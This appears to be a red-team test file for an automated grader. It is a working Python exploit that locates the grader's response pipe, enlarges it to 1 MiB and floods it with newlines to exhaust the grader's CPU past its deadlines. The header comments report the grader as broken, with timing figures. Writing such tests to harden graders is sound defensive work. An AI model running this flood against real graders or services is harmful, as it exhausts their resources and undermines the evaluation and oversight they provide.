# attack: widen the response pipe to 1 MiB (F_SETPIPE_SZ) and fill it with bare newlines, again and again; the grader
#         splits its buffer one line at a time (bytes slicing: quadratic) and checks its deadline only between reads
# must hold: every request ends within its time limit (plus a fraction of a second): a flood costs the item, not grader time
# result today: BROKEN (each 1 MiB chunk costs the grader ~10 s of CPU with no deadline check; with import_seconds = 5,
#               `grade` took 21.1 s wall and 13.5 s of grader CPU to report the import timeout). Not in
#               test_attacks_heldout.py: only a time measurement shows it (no timed assertions in tests)
# (The test appends the reference solution below this block, so the file is a complete submission.)
import fcntl as _fcntl
import os as _os
import stat as _stat
import threading as _threading

F_SETPIPE_SZ = 1031


def _response_fd():
    for name in _os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd in (0, 1, 2):
            continue
        try:
            if _stat.S_ISFIFO(_os.fstat(fd).st_mode) and _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE == _os.O_WRONLY:
                return fd
        except OSError:
            continue
    raise RuntimeError("no response pipe")


_fd = _response_fd()
try:
    _size = _fcntl.fcntl(_fd, F_SETPIPE_SZ, 1 << 20)
except OSError:
    _size = 65536
_CHUNK = b"\n" * _size


def _flood(chunks=6):
    for _ in range(chunks):
        _os.write(_fd, _CHUNK)


print("ATTACK newline flood, pipe size", _size)
_flood()
